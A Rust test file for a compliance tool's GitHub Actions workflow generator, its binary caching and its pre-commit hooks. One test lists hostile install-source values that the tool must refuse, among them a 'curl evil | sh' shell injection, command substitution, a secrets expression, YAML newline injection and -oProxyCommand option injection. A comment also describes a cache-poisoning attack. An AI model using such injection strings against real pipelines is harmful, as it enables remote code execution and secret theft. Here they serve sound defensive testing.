//! The CI recipes (DESIGN.md §6.5, README "CI recipe"): the GitHub workflow that
//! `assure init --ci github [--source SOURCE]` writes — where it installs assure from,
//! the cache of the installed binary, actions that run on node24, its steps run for real,
//! `actionlint` (with shellcheck) accepting it — and the shipped `.pre-commit-hooks.yaml`
//! run by the real `pre-commit`.
//!
//! The tests that need a tool (`actionlint`, `pre-commit`) are ignored in a plain
//! `cargo test` and FAIL when the tool is missing; `.ci/run` installs the tools and runs
//! them (`cargo test --test it -- --ignored recipes::`).

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

use crate::support::{
    GitRepo, Output, TestRepo, fixtures, git_cli, located, project_root, run_env, snapshot,
};

const WORKFLOW: &str = ".github/workflows/compliance.yml";

fn workflow(dir: &Path) -> Value {
    let text = std::fs::read_to_string(dir.join(WORKFLOW)).expect("the workflow");
    assure::repo::yaml::parse_to_json(&text)
        .unwrap_or_else(|e| panic!("the workflow is YAML: {}", e.message))
}

/// Every (job id, job, step) of a workflow.
fn steps(wf: &Value) -> Vec<(String, Value, Value)> {
    wf["jobs"]
        .as_object()
        .expect("jobs")
        .iter()
        .flat_map(|(id, job)| {
            job["steps"]
                .as_array()
                .expect("steps")
                .iter()
                .map(|s| (id.clone(), job.clone(), s.clone()))
                .collect::<Vec<_>>()
        })
        .collect()
}

fn run_of(step: &Value) -> &str {
    step["run"].as_str().unwrap_or("")
}

/// The id of the job with a step whose `run` contains `needle`.
fn job_running(wf: &Value, needle: &str) -> String {
    steps(wf)
        .into_iter()
        .find(|(_, _, s)| run_of(s).contains(needle))
        .map(|(id, _, _)| id)
        .unwrap_or_else(|| panic!("no step runs {needle:?}"))
}

#[test]
fn init_ci_github_in_a_fresh_folder() {
    let tmp = tempfile::tempdir().expect("temp dir");
    let out = run_env(
        tmp.path(),
        &["init", "--ci", "github", "--as", "alice@example.com"],
        &[],
    );
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    assert!(out.stdout.contains(WORKFLOW), "{}", out.stdout);
    assert!(tmp.path().join("assure.yaml").is_file());
    let v = run_env(tmp.path(), &["validate"], &[]);
    assert_eq!(v.code, 0, "{}{}", v.stdout, v.stderr);

    let wf = workflow(tmp.path());
    // Triggers: pull requests, and pushes to the default branch.
    assert!(
        wf["on"].get("pull_request").is_some(),
        "a pull_request trigger: {:#}",
        wf["on"]
    );
    assert!(wf["on"].get("push").is_some(), "{:#}", wf["on"]);

    // The pull-request job: validate --base, with the whole history checked out, and the
    // diff summary.
    let check = job_running(&wf, "assure validate --format github --base");
    let job = &wf["jobs"][&check];
    assert!(
        job["if"]
            .as_str()
            .unwrap_or("pull_request")
            .contains("pull_request"),
        "{job:#}"
    );
    let checkout = job["steps"]
        .as_array()
        .expect("steps")
        .iter()
        .find(|s| {
            s["uses"]
                .as_str()
                .unwrap_or("")
                .starts_with("actions/checkout")
        })
        .expect("a checkout step");
    assert_eq!(
        checkout["with"]["fetch-depth"],
        serde_json::json!(0),
        "validate --base reads every commit of the change: {checkout:#}"
    );
    assert_eq!(
        job_running(&wf, "assure diff"),
        check,
        "the diff is posted by the pull-request job"
    );

    // The site job renders the report site.
    let site = job_running(&wf, "assure report site");
    assert_ne!(site, check);
    let job = &wf["jobs"][&site];
    assert!(
        job["if"].as_str().unwrap_or("push").contains("push"),
        "{job:#}"
    );
}

#[test]
fn init_ci_github_in_an_existing_repository_writes_only_the_workflow() {
    let repo = TestRepo::base();
    GitRepo::init(repo.path()).commit_all("alice@example.com", "Start", 1_700_000_000);
    let before = snapshot(repo.path());
    // No --as: nothing is written for a person.
    let out = run_env(repo.path(), &["init", "--ci", "github"], &[]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    let mut after = snapshot(repo.path());
    assert!(after.remove(WORKFLOW).is_some(), "the workflow is written");
    assert_eq!(after, before, "nothing else changed");
    workflow(repo.path());
}

#[test]
fn init_ci_github_refuses_to_overwrite_the_workflow() {
    let repo = TestRepo::base();
    GitRepo::init(repo.path()).commit_all("alice@example.com", "Start", 1_700_000_000);
    let out = run_env(repo.path(), &["init", "--ci", "github"], &[]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    // The team edits it.
    let edited = format!("{}# our own step\n", repo.read(WORKFLOW));
    repo.write(WORKFLOW, &edited);
    let before = snapshot(repo.path());
    let out = run_env(repo.path(), &["init", "--ci", "github"], &[]);
    assert_eq!(out.code, 2, "{}{}", out.stdout, out.stderr);
    assert!(
        out.stderr.contains("compliance.yml") && out.stderr.contains("exists"),
        "{}",
        out.stderr
    );
    assert_eq!(snapshot(repo.path()), before, "nothing changed");
}

#[test]
fn init_ci_github_without_an_identity_writes_nothing() {
    // A fresh folder, no git identity and no --as: `init` cannot say who the
    // administrator is. It must not leave the workflow behind, or the retry with --as
    // is refused ("compliance.yml exists already").
    let tmp = tempfile::tempdir().expect("temp dir");
    let out = run_env(tmp.path(), &["init", "--ci", "github"], &[]);
    assert_eq!(out.code, 2, "{}{}", out.stdout, out.stderr);
    assert!(out.stderr.contains("--as"), "{}", out.stderr);
    assert!(
        !tmp.path().join(WORKFLOW).exists(),
        "a failed init leaves no workflow behind"
    );
    let out = run_env(
        tmp.path(),
        &["init", "--ci", "github", "--as", "alice@example.com"],
        &[],
    );
    assert_eq!(out.code, 0, "the retry works: {}{}", out.stdout, out.stderr);
    assert!(tmp.path().join(WORKFLOW).is_file());
    assert!(tmp.path().join("assure.yaml").is_file());
}

#[test]
fn init_ci_github_in_a_subfolder_of_a_git_repository() {
    // The compliance repository is `compliance/` inside a larger git repository: GitHub
    // reads workflows at the git root, and the workflow's assure commands must run in
    // `compliance/` (where assure.yaml is).
    let top = tempfile::tempdir().expect("temp dir");
    GitRepo::init(top.path());
    let sub = top.path().join("compliance");
    crate::support::copy_tree(&crate::support::fixtures().join("base"), &sub);
    let out = run_env(&sub, &["init", "--ci", "github"], &[]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    assert!(top.path().join(WORKFLOW).is_file(), "at the git root");
    assert!(!sub.join(WORKFLOW).exists());

    let wf = workflow(top.path());
    let dir_of = |job: &Value, step: &Value| -> Option<String> {
        step["working-directory"]
            .as_str()
            .or_else(|| job["defaults"]["run"]["working-directory"].as_str())
            .or_else(|| wf["defaults"]["run"]["working-directory"].as_str())
            .map(|d| d.trim_start_matches("./").trim_end_matches('/').to_owned())
    };
    for (id, job, step) in steps(&wf) {
        let run = run_of(&step);
        if !run.contains("assure ") || run.contains("cargo install") {
            continue;
        }
        assert!(
            dir_of(&job, &step).as_deref() == Some("compliance") || run.contains("-C compliance"),
            "job {id}: `{run}` runs in compliance/"
        );
    }
}

/// What GitHub fills in for the expressions the workflow uses, for a pull request of
/// bob's against `main` and a push after `HEAD~1`.
fn github_expressions(text: &str) -> String {
    text.replace("${{ github.base_ref }}", "main")
        .replace("${{ github.event.pull_request.user.login }}", "bob-example")
        .replace("${{ github.event.pull_request.number }}", "7")
        .replace("${{ github.event.before }}", "HEAD~1")
        .replace("${{ github.repository_owner }}", "contoso")
        .replace("${{ github.event.repository.name }}", "compliance")
}

/// Runs the workflow's assure steps (`run:` with `assure `) as GitHub would, in a clone
/// of a base repository with one change on a branch: `${{ github.base_ref }}` is `main`,
/// `origin/main` the base.
#[test]
fn the_workflow_steps_run() {
    let repo = TestRepo::base();
    // Bob's GitHub login, by which the workflow names the pull request's author.
    let config = repo.read("assure.yaml").replace(
        "Bob Assessor\n    roles: [assessor]\n",
        "Bob Assessor\n    roles: [assessor]\n    github: bob-example\n",
    );
    assert!(config.contains("github: bob-example"));
    repo.write("assure.yaml", config);
    let git = GitRepo::init(repo.path());
    let base = git.commit_all("alice@example.com", "Start", 1_700_000_000);
    git.repo
        .reference("refs/remotes/origin/main", base, true, "origin")
        .expect("origin/main");
    // The change: bob (assessor) records a test.
    let path = "groups/default-group/office-365--gdpr.yaml";
    let text = repo.read(path);
    repo.write(
        path,
        text.replace(
            "    status: planned\n",
            "    status: planned\n    test_date: 2019-06-01\n    test_result: failed-low-risk\n",
        ),
    );
    git.commit_all("bob@example.com", "Test 6.2.1.1", 1_700_000_100);
    let out = run_env(repo.path(), &["init", "--ci", "github"], &[]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    let wf = workflow(repo.path());
    // The check attributes the pull request to its author as GitHub authenticated them.
    let (_, _, check) = steps(&wf)
        .into_iter()
        .find(|(_, _, s)| run_of(s).contains("assure validate") && run_of(s).contains("--base"))
        .expect("a validate --base step");
    assert!(
        run_of(&check).ends_with(r#"--actor "$PR_AUTHOR""#),
        "{check}"
    );
    assert_eq!(
        check["env"]["PR_AUTHOR"],
        "${{ github.event.pull_request.user.login }}"
    );
    // Expressions reach the scripts through the environment, never spliced into them.
    for (id, _, step) in steps(&wf) {
        assert!(!run_of(&step).contains("${{"), "job {id}: {step:#}");
    }

    let bin_dir = Path::new(env!("CARGO_BIN_EXE_assure"))
        .parent()
        .expect("bin dir")
        .to_owned();
    let path_var = std::env::join_paths(std::iter::once(bin_dir).chain(std::env::split_paths(
        &std::env::var_os("PATH").unwrap_or_default(),
    )))
    .expect("PATH");
    let mut ran = Vec::new();
    for (id, _, step) in steps(&wf) {
        let run = run_of(&step);
        if !run.contains("assure ") || run.contains("cargo install") {
            continue;
        }
        let script = github_expressions(run);
        assert!(
            !script.contains("${{"),
            "job {id}: unknown expression in {run}"
        );
        let mut cmd = std::process::Command::new("sh");
        cmd.env_clear();
        // The step's own environment, as GitHub would fill it in (secrets stay unset).
        if let Some(env) = step["env"].as_object() {
            for (k, v) in env {
                let v = github_expressions(v.as_str().unwrap_or_default());
                if !v.contains("${{") {
                    cmd.env(k, v);
                }
            }
        }
        let out = cmd
            .arg("-c")
            .arg(&script)
            .current_dir(repo.path())
            .env("PATH", &path_var)
            .env("HOME", repo.path())
            .env("ASSURE_TODAY", crate::support::TODAY)
            .env("NO_COLOR", "1")
            .output()
            .expect("sh");
        assert!(
            out.status.success(),
            "job {id}: `{script}` failed:\n{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        ran.push(script);
    }
    assert!(ran.len() >= 3, "{ran:?}");
    let summary = repo.read("compliance-summary.md");
    assert!(
        summary.contains("6.2.1.1"),
        "the PR comment names the change:\n{summary}"
    );
    assert!(repo.path().join("_site/index.html").is_file(), "the site");
}

// ---------------------------------------------------------------------------------------
// pre-commit

#[test]
fn pre_commit_hooks_are_defined() {
    let text = std::fs::read_to_string(project_root().join(".pre-commit-hooks.yaml"))
        .expect(".pre-commit-hooks.yaml");
    let hooks =
        assure::repo::yaml::parse_to_json(&text).unwrap_or_else(|e| panic!("YAML: {}", e.message));
    let hooks = hooks.as_array().expect("a list of hooks");
    let hook = |id: &str| {
        hooks
            .iter()
            .find(|h| h["id"] == id)
            .unwrap_or_else(|| panic!("hook {id}"))
    };
    let validate = hook("assure-validate");
    assert_eq!(validate["entry"], "assure validate");
    for h in hooks {
        for key in ["id", "name", "entry", "language"] {
            assert!(h[key].is_string(), "{key} in {h:#}");
        }
        // The commands check the whole repository and take no file names.
        assert_eq!(h["pass_filenames"], serde_json::json!(false), "{h:#}");
    }
    let sync = hook("assure-sync-check");
    assert_eq!(sync["entry"], "assure sync --check");

    // The entries run, clean, on a valid repository.
    let repo = TestRepo::base();
    for h in hooks {
        let entry = h["entry"].as_str().expect("entry");
        let args: Vec<&str> = entry.split_whitespace().skip(1).collect();
        let out = run_env(repo.path(), &args, &[]);
        assert_eq!(out.code, 0, "{entry}: {}{}", out.stdout, out.stderr);
    }
}

// ---------------------------------------------------------------------------------------
// Where the workflow installs assure from, and the cache of the installed binary

/// This build's source: its repository (Cargo.toml) at the tag of its version.
fn this_build() -> String {
    format!(
        "{}@v{}",
        env!("CARGO_PKG_REPOSITORY"),
        env!("CARGO_PKG_VERSION")
    )
}

/// `init --ci github [ARGS]` in a committed copy of the base repository; the workflow.
fn workflow_with(args: &[&str]) -> (TestRepo, Value) {
    let repo = TestRepo::base();
    GitRepo::init(repo.path()).commit_all("alice@example.com", "Start", 1_700_000_000);
    let mut full = vec!["init", "--ci", "github"];
    full.extend_from_slice(args);
    let out = run_env(repo.path(), &full, &[]);
    assert_eq!(out.code, 0, "{args:?}: {}{}", out.stdout, out.stderr);
    let wf = workflow(repo.path());
    (repo, wf)
}

/// The words the shell passes to `cargo` when it runs `script` (a stub `cargo` on PATH
/// records them), so the test sees what the shell makes of the quoting.
fn cargo_words(script: &str) -> Vec<String> {
    let tmp = tempfile::tempdir().expect("temp dir");
    let stub = tmp.path().join("cargo");
    std::fs::write(
        &stub,
        "#!/bin/sh\nfor a in \"$@\"; do printf '%s\\n' \"$a\"; done > \"$WORDS\"\n",
    )
    .expect("stub");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&stub, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    }
    let words = tmp.path().join("words");
    let out = Command::new("sh")
        .arg("-c")
        .arg(script)
        .env_clear()
        .env("PATH", format!("{}:/usr/bin:/bin", tmp.path().display()))
        .env("HOME", tmp.path())
        .env("WORDS", &words)
        .output()
        .expect("sh");
    assert!(out.status.success(), "`{script}`: {out:?}");
    std::fs::read_to_string(&words)
        .expect("cargo ran")
        .lines()
        .map(str::to_owned)
        .collect()
}

/// For each job that runs assure, the step that installs it before its first `assure`
/// command, and whether the job restores the binary from the cache first (under the
/// workflow's `ASSURE_SOURCE`, installing only on a miss). Returns (job id, install
/// script, cached).
fn install_steps(wf: &Value) -> Vec<(String, String, bool)> {
    let mut installs = Vec::new();
    for (id, job) in wf["jobs"].as_object().expect("jobs") {
        let steps = job["steps"].as_array().expect("steps");
        let Some(first) = steps.iter().position(|s| {
            let run = run_of(s);
            run.contains("assure ") && !run.contains("cargo install")
        }) else {
            continue;
        };
        let before = &steps[..first];
        let install = before
            .iter()
            .find(|s| run_of(s).contains("cargo install"))
            .unwrap_or_else(|| panic!("job {id}: no install step"));
        let cache = before.iter().find(|s| {
            s["uses"]
                .as_str()
                .unwrap_or("")
                .starts_with("actions/cache")
        });
        if let Some(cache) = cache {
            assert_eq!(cache["with"]["path"], "~/.cargo/bin/assure", "job {id}");
            assert_eq!(
                cache["with"]["key"],
                "assure-${{ runner.os }}-${{ runner.arch }}-${{ env.ASSURE_SOURCE }}",
                "job {id}: the key names the source and its version"
            );
            let cache_id = cache["id"].as_str().expect("the cache step has an id");
            assert_eq!(
                install["if"],
                format!("steps.{cache_id}.outputs.cache-hit != 'true'"),
                "job {id}: installs only when the cache missed"
            );
        } else {
            assert!(install.get("if").is_none(), "job {id}: always installs");
        }
        installs.push((id.clone(), run_of(install).to_owned(), cache.is_some()));
    }
    installs
}

#[test]
fn the_workflow_installs_this_version_and_caches_it_on_the_default_branch() {
    let (repo, wf) = workflow_with(&[]);
    assert!(
        !repo.read(WORKFLOW).contains("@ASSURE_"),
        "every blank filled in"
    );
    assert_eq!(wf["env"]["ASSURE_SOURCE"], this_build());
    assert_eq!(
        this_build(),
        format!(
            "https://github.com/assure-compliance/assure@v{}",
            env!("CARGO_PKG_VERSION")
        ),
        "Cargo.toml names the repository"
    );
    let installs = install_steps(&wf);
    let jobs: Vec<(&str, bool)> = installs
        .iter()
        .map(|(id, _, cached)| (id.as_str(), *cached))
        .collect();
    // The jobs on the default branch restore the binary from the cache, which only runs
    // on that branch write. The pull request check builds it: a pull request's own runs
    // write the cache it would read (a push that edits the workflow to plant a binary
    // under the key, then one that reverts the edit), and the gate must not run that.
    assert_eq!(
        jobs,
        [("check", false), ("notify", true), ("site", true)],
        "every job that runs assure, and whether it trusts the cache"
    );
    for (id, job) in wf["jobs"].as_object().expect("jobs") {
        if job["if"].as_str().unwrap_or("").contains("pull_request") {
            for step in job["steps"].as_array().expect("steps") {
                let uses = step["uses"].as_str().unwrap_or("");
                assert!(!uses.starts_with("actions/cache"), "job {id}: {uses}");
            }
        }
    }
    for (id, script, _) in installs {
        assert_eq!(
            cargo_words(&script),
            [
                "install",
                "--locked",
                "--git",
                env!("CARGO_PKG_REPOSITORY"),
                "--tag",
                &format!("v{}", env!("CARGO_PKG_VERSION")),
                "assure",
            ],
            "job {id}: {script}"
        );
    }
}

#[test]
fn init_ci_github_source_pins_another_install() {
    let commit = "0123456789abcdef0123456789abcdef01234567";
    let cases: Vec<(String, Vec<String>)> = vec![
        (
            "crates.io@0.2.1".into(),
            vec!["--version".into(), "0.2.1".into()],
        ),
        (
            "crates.io@1.0.0-rc.1".into(),
            vec!["--version".into(), "1.0.0-rc.1".into()],
        ),
        (
            "https://git.example.com/~team/assure.git@v0.2.0".into(),
            vec![
                "--git".into(),
                "https://git.example.com/~team/assure.git".into(),
                "--tag".into(),
                "v0.2.0".into(),
            ],
        ),
        (
            format!("https://github.com/fork/assure@{commit}"),
            vec![
                "--git".into(),
                "https://github.com/fork/assure".into(),
                "--rev".into(),
                commit.into(),
            ],
        ),
        (
            // The user name before the host is part of the URL; the tag follows the last @.
            "ssh://git@github.com/fork/assure@release/2".into(),
            vec![
                "--git".into(),
                "ssh://git@github.com/fork/assure".into(),
                "--tag".into(),
                "release/2".into(),
            ],
        ),
    ];
    for (source, words) in cases {
        let (_repo, wf) = workflow_with(&["--source", &source]);
        assert_eq!(wf["env"]["ASSURE_SOURCE"], source.as_str());
        let mut expected: Vec<String> = vec!["install".into(), "--locked".into()];
        expected.extend(words);
        expected.push("assure".into());
        let installs = install_steps(&wf);
        assert_eq!(installs.len(), 3, "{source}");
        for (id, script, _) in installs {
            assert_eq!(
                cargo_words(&script),
                expected,
                "{source}, job {id}: {script}"
            );
        }
    }
}

#[test]
fn init_ci_github_refuses_a_source_that_could_break_the_workflow() {
    // Each is spliced into YAML, a shell command and a cache key: anything that could
    // end a quote, start a comment, an expression or a command, or pass as an option, is
    // refused before anything is written. And every source is pinned.
    let hostile = [
        "crates.io@0.1.0' ; curl evil | sh ; '",
        "https://github.com/o/r@v1$(id)",
        "https://github.com/o/r@v1`id`",
        "https://github.com/o/r@${{ secrets.ASSURE_SMTP_PASSWORD }}",
        "https://github.com/o/r@v1\"",
        "https://github.com/o/r@v1 # comment",
        "https://github.com/o/r@v1\n  evil: true",
        "https://github.com/o/r@v1\r",
        "https://github.com/o/r@v1,other-key",
        "https://github.com/o/r@v1;id",
        "https://github.com/o/r@v1\\",
        "https://github.com/o/r@-oProxyCommand",
        "https://github.com/o/r@..",
        "ssh://-oProxyCommand/o/r@v1",
        "https://gіthub.com/o/r@v1", // a Cyrillic і
        "http://github.com/o/r@v1",  // not encrypted
        "git://github.com/o/r@v1",
        "file:///tmp/assure@v1",
        "/tmp/assure@v1",
        "crates.io",
        "crates.io@latest",
        "crates.io@1.0",
        "crates.io@^1.0.0",
        "https://github.com/o/r", // not pinned
        "ssh://git@github.com/o/r",
        "https://github.com/o/r@",
        "",
    ];
    let repo = TestRepo::base();
    GitRepo::init(repo.path()).commit_all("alice@example.com", "Start", 1_700_000_000);
    let before = snapshot(repo.path());
    for source in hostile {
        let out = run_env(
            repo.path(),
            &["init", "--ci", "github", "--source", source],
            &[],
        );
        assert_eq!(out.code, 2, "{source:?}: {}{}", out.stdout, out.stderr);
        assert!(
            out.stderr.contains("--source") && out.stderr.contains("crates.io@VERSION"),
            "{source:?}: says which forms are accepted: {}",
            out.stderr
        );
        assert_eq!(snapshot(repo.path()), before, "{source:?}: nothing written");
    }
    // In a fresh folder, neither the workflow nor the repository is started.
    let tmp = tempfile::tempdir().expect("temp dir");
    let out = run_env(
        tmp.path(),
        &[
            "init",
            "--ci",
            "github",
            "--as",
            "alice@example.com",
            "--source",
            "crates.io",
        ],
        &[],
    );
    assert_eq!(out.code, 2, "{}{}", out.stdout, out.stderr);
    assert!(snapshot(tmp.path()).is_empty(), "nothing written");
    // --source is for the workflow only.
    let out = run_env(
        tmp.path(),
        &[
            "init",
            "--as",
            "alice@example.com",
            "--source",
            "crates.io@0.1.0",
        ],
        &[],
    );
    assert_eq!(out.code, 2, "{}{}", out.stdout, out.stderr);
    assert!(out.stderr.contains("--ci"), "{}", out.stderr);
    assert!(snapshot(tmp.path()).is_empty(), "nothing written");
}

#[test]
fn a_build_without_a_repository_needs_a_source() {
    use assure::ops::init::InstallSource;
    let e = InstallSource::of_build("", "0.1.0").expect_err("no repository");
    assert!(e.contains("--source"), "{e}");
    assert!(e.contains("without a repository"), "{e}");
    // A repository field that could break the workflow is refused the same way.
    let e = InstallSource::of_build("https://example.com/a b", "0.1.0").expect_err("a space");
    assert!(e.contains("--source"), "{e}");
    assert_eq!(
        InstallSource::of_build(env!("CARGO_PKG_REPOSITORY"), "1.2.3")
            .expect("this project's repository")
            .label(),
        format!("{}@v1.2.3", env!("CARGO_PKG_REPOSITORY"))
    );
}

/// The actions the workflow may use, each checked to run on node24 (GitHub removed node20
/// from its runners in September 2026): `runs.using` of the action.yml at that tag is
/// `node24`, or `composite` using only such actions (upload-pages-artifact@v5 uses
/// actions/upload-artifact v7.0.0, node24).
const NODE24_ACTIONS: [&str; 4] = [
    "actions/checkout@v6",
    "actions/cache@v5",
    "actions/upload-pages-artifact@v5",
    "actions/deploy-pages@v5",
];

#[test]
fn the_workflow_uses_only_actions_that_run_on_node24() {
    let (_repo, wf) = workflow_with(&[]);
    let mut used = Vec::new();
    for (id, _, step) in steps(&wf) {
        if let Some(uses) = step["uses"].as_str() {
            assert!(
                NODE24_ACTIONS.contains(&uses),
                "job {id}: {uses} is not a version checked to run on node24"
            );
            used.push(uses.to_owned());
        }
    }
    for action in [
        "actions/checkout@",
        "actions/cache@",
        "actions/deploy-pages@",
    ] {
        assert!(used.iter().any(|u| u.starts_with(action)), "{used:?}");
    }
}

// ---------------------------------------------------------------------------------------
// actionlint

/// Runs a tool that an ignored test needs, failing (not skipping) when it is missing.
fn tool(name: &str, args: &[&str], cwd: &Path, env: &[(&str, &Path)]) -> Output {
    let mut cmd = Command::new(name);
    cmd.args(args).current_dir(cwd);
    for (k, v) in env {
        cmd.env(k, v);
    }
    let out = cmd.output().unwrap_or_else(|e| {
        panic!(
            "{name} is needed for this test ({e}); .ci/run installs it (see README, \"CI recipe\")"
        )
    });
    Output {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

/// actionlint on the workflow in `top`; its exit code and report.
fn actionlint(top: &Path) -> Output {
    tool(
        "actionlint",
        &["-no-color", "-shellcheck", "shellcheck", WORKFLOW],
        top,
        &[],
    )
}

#[test]
#[ignore = "needs actionlint and shellcheck"]
fn the_workflow_passes_actionlint() {
    // actionlint runs shellcheck on every `run:` script only when shellcheck is there.
    let sc = tool("shellcheck", &["--version"], Path::new("."), &[]);
    assert_eq!(sc.code, 0, "{}{}", sc.stdout, sc.stderr);

    let commit = "0123456789abcdef0123456789abcdef01234567";
    for args in [
        vec![],
        vec!["--source", "crates.io@0.1.0"],
        vec!["--source", "ssh://git@github.com/fork/assure@release/2"],
        vec![
            "--source",
            &*Box::leak(format!("https://github.com/fork/assure@{commit}").into_boxed_str()),
        ],
    ] {
        let (repo, _) = workflow_with(&args);
        let out = actionlint(repo.path());
        assert_eq!(out.code, 0, "{args:?}:\n{}{}", out.stdout, out.stderr);
    }

    // The compliance repository in a folder of a larger git repository.
    let top = tempfile::tempdir().expect("temp dir");
    GitRepo::init(top.path());
    let sub = top.path().join("compliance");
    crate::support::copy_tree(&fixtures().join("base"), &sub);
    let out = run_env(&sub, &["init", "--ci", "github"], &[]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    let out = actionlint(top.path());
    assert_eq!(out.code, 0, "in a folder:\n{}{}", out.stdout, out.stderr);

    // The check has teeth: yesterday's actions (node20) and an unquoted variable fail it.
    let (repo, _) = workflow_with(&[]);
    let text = repo.read(WORKFLOW);
    repo.write(
        WORKFLOW,
        text.replace("actions/checkout@v6", "actions/checkout@v4"),
    );
    let out = actionlint(repo.path());
    assert_eq!(out.code, 1, "{}{}", out.stdout, out.stderr);
    assert!(
        out.stdout.contains("node20") && out.stdout.contains("actions/checkout@v4"),
        "{}",
        out.stdout
    );
    repo.write(WORKFLOW, text.replace("\"$PR_NUMBER\"", "$PR_NUMBER"));
    let out = actionlint(repo.path());
    assert_eq!(out.code, 1, "{}{}", out.stdout, out.stderr);
    assert!(
        out.stdout.contains("SC2086"),
        "shellcheck ran: {}",
        out.stdout
    );
}

// ---------------------------------------------------------------------------------------
// pre-commit

/// The README's example `.pre-commit-config.yaml` (the yaml block that names the hooks).
fn readme_pre_commit_config() -> String {
    let readme = std::fs::read_to_string(project_root().join("README.md")).expect("README");
    readme
        .split("```yaml\n")
        .skip(1)
        .filter_map(|b| b.split_once("```").map(|(block, _)| block))
        .find(|b| b.contains("id: assure-validate"))
        .expect("a yaml block with the pre-commit hooks in the README")
        .to_owned()
}

#[test]
fn the_readme_pre_commit_config_names_this_repository_and_its_hooks() {
    let config = readme_pre_commit_config();
    let v = assure::repo::yaml::parse_to_json(&config)
        .unwrap_or_else(|e| panic!("YAML: {}\n{config}", e.message));
    let repo = &v["repos"][0];
    assert_eq!(repo["repo"], env!("CARGO_PKG_REPOSITORY"), "{config}");
    assert_eq!(
        repo["rev"],
        format!("v{}", env!("CARGO_PKG_VERSION")),
        "the current release's tag: {config}"
    );
    let ids: Vec<&str> = repo["hooks"]
        .as_array()
        .expect("hooks")
        .iter()
        .filter_map(|h| h["id"].as_str())
        .collect();
    assert_eq!(ids, ["assure-validate", "assure-sync-check"]);
    // The hooks file's own comment names the same repository.
    let hooks = std::fs::read_to_string(project_root().join(".pre-commit-hooks.yaml"))
        .expect(".pre-commit-hooks.yaml");
    assert!(
        hooks.contains(&format!("repo: {}", env!("CARGO_PKG_REPOSITORY"))),
        "{hooks}"
    );
}

/// Runs `pre-commit ARGS` in `dir`. `language: rust` makes pre-commit `cargo install`
/// this project (a release build): its target folder is kept under the project's
/// `target/pre-commit/`, so the second install reuses the first one's build.
fn pre_commit(dir: &Path, args: &[&str]) -> Output {
    let cache = project_root().join("target/pre-commit");
    let target: PathBuf = cache.join("cargo");
    let home: PathBuf = cache.join("home");
    let mut cmd_env: Vec<(&str, &Path)> =
        vec![("CARGO_TARGET_DIR", &target), ("PRE_COMMIT_HOME", &home)];
    // The hook's `assure validate` sees the fixtures' "today".
    let today = PathBuf::from(crate::support::TODAY);
    cmd_env.push(("ASSURE_TODAY", &today));
    let no_color = PathBuf::from("1");
    cmd_env.push(("NO_COLOR", &no_color));
    tool("pre-commit", args, dir, &cmd_env)
}

#[test]
#[ignore = "needs pre-commit (and builds assure in release)"]
fn the_pre_commit_hooks_run_in_a_compliance_repository() {
    let root = project_root();
    let root = root.to_str().expect("utf-8 project path");
    let repo = TestRepo::base();
    let git = GitRepo::init(repo.path());
    git.commit_all("alice@example.com", "Start", 1_700_000_000);

    // The README's example configuration is one pre-commit accepts.
    repo.write(".pre-commit-config.yaml", readme_pre_commit_config());
    let out = pre_commit(repo.path(), &["validate-config", ".pre-commit-config.yaml"]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    std::fs::remove_file(repo.path().join(".pre-commit-config.yaml")).expect("rm");

    // Clean: both hooks (all of the manifest's) install from this project and pass.
    let out = pre_commit(repo.path(), &["try-repo", root, "--all-files"]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    for hook in ["assure validate", "assure sync --check"] {
        let line = out
            .stdout
            .lines()
            .find(|l| l.starts_with(hook) && l.contains('.'))
            .unwrap_or_else(|| panic!("{hook} ran:\n{}", out.stdout));
        assert!(line.ends_with("Passed"), "{line}");
    }

    // A broken file: the hook fails and shows where and what.
    let broken = TestRepo::with_overlay(&fixtures().join("invalid/invalid-value"));
    crate::support::copy_tree(broken.path(), repo.path());
    git.commit_all("bob@example.com", "Done", 1_700_000_100);
    let expected = located(&run_env(
        repo.path(),
        &["validate", "--format", "json"],
        &[],
    ));
    let (code, file, line, column, _) = expected.first().expect("a finding").clone();
    assert_eq!(code, "invalid-value");
    let out = pre_commit(
        repo.path(),
        &["try-repo", root, "assure-validate", "--all-files"],
    );
    assert_eq!(out.code, 1, "{}{}", out.stdout, out.stderr);
    assert!(
        out.stdout.contains(&format!("{file}:{line}:{column}"))
            && out.stdout.contains(&format!("[{code}]")),
        "the located error:\n{}",
        out.stdout
    );
    let status = git_cli(repo.path(), &["status", "--porcelain"]);
    assert_eq!(status.stdout, "", "the hooks changed no file");
}
